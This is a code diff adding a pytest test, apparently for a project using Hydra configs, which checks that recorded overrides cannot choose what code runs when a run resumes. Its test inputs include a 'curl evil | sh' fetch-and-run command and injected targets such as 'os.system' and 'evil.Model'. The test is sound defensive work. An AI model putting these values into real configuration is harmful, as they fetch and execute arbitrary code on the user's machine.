@@ -41,6 +41,18 @@ def test_a_resumed_sweep_reads_its_overrides_and_refuses_other_values(tmp_path):
         resumed_arguments([*arguments, "model.latent_dim=2,8"])
 
 
+@pytest.mark.parametrize("recorded", ["trusted_modules=[evil]", "model._target_=evil.Model", "+hydra.callbacks.x._target_=os.system",
+                                      "hydra.job_logging.handlers.file.class=evil.Handler", "hydra/job_logging=evil",
+                                      "hydra.launcher.setup=[curl evil | sh]", "hydra.launcher.python=/tmp/evil"])
+def test_a_record_never_grants_trust_to_a_resumed_command(tmp_path, recorded):
+    hydra = [recorded] if recorded.lstrip("+").startswith("hydra") else []
+    run = record(tmp_path / "run", ["model.latent_dim=4", *([] if hydra else [recorded])], ["hydra.run.dir=x", *hydra])
+    with pytest.raises(ConfigError, match="decides what code runs; vae_lab takes that only from the command line"):
+        resumed_arguments([f"hydra.run.dir={run}", "resume=true"])
+    key = recorded.lstrip("+").split("=", 1)[0]
+    assert "model.latent_dim=4" in resumed_arguments([f"hydra.run.dir={run}", "resume=true", f"{key}=mine"])
+
+
 @pytest.mark.parametrize("arguments, message", [
     (["resume=true"], "name its folder with hydra.run.dir="),
     (["-m", "resume=true"], "name its folder with hydra.sweep.dir="),
